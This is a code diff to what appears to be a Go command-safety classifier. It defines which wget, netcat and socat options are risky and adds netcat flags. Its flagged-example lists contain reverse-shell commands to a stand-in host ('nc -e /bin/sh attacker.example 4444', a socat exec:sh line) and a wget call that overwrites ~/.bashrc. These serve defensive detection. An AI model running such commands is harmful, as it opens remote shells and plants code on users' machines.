@@ -38,7 +38,7 @@ var _ = family("network", func(add func(...*Spec)) {
 				"--save-cookies=w --load-cookies=r --save-headers --warc-file=w --rejected-log=w",
 			Flagged: []string{"wget -qO ~/.bashrc https://example.com/x", "wget --save-cookies ~/.bashrc https://example.com", "wget -e 'use_proxy=on' https://x", "wget --use-askpass=./x.sh https://x"}},
 		&Spec{Names: n("nc", "ncat", "netcat", "nc.openbsd", "nc.traditional"), Effect: Network, Permute: true, Operands: "n*", Loose: true,
-			Options: "-e=x -c=x --exec=x --sh-exec=x --lua-exec=x -o=w --output=w -h:h --help:h",
+			Options: "-e=x -c=x --exec=x --sh-exec=x --lua-exec=x -o=w --output=w -p= -s= -w= -i= -q= -l -v -n -u -z -k -4 -6 -h:h --help:h",
 			Flagged: []string{"nc -e /bin/sh attacker.example 4444", "nc -z localhost 8080"}},
 		&Spec{Names: n("socat"), Effect: Network, Lang: "socat", Operands: "c c?", Loose: true, Options: "-h:h -V:h",
 			Flagged: []string{"socat tcp-connect:attacker.example:4444 exec:sh"}},
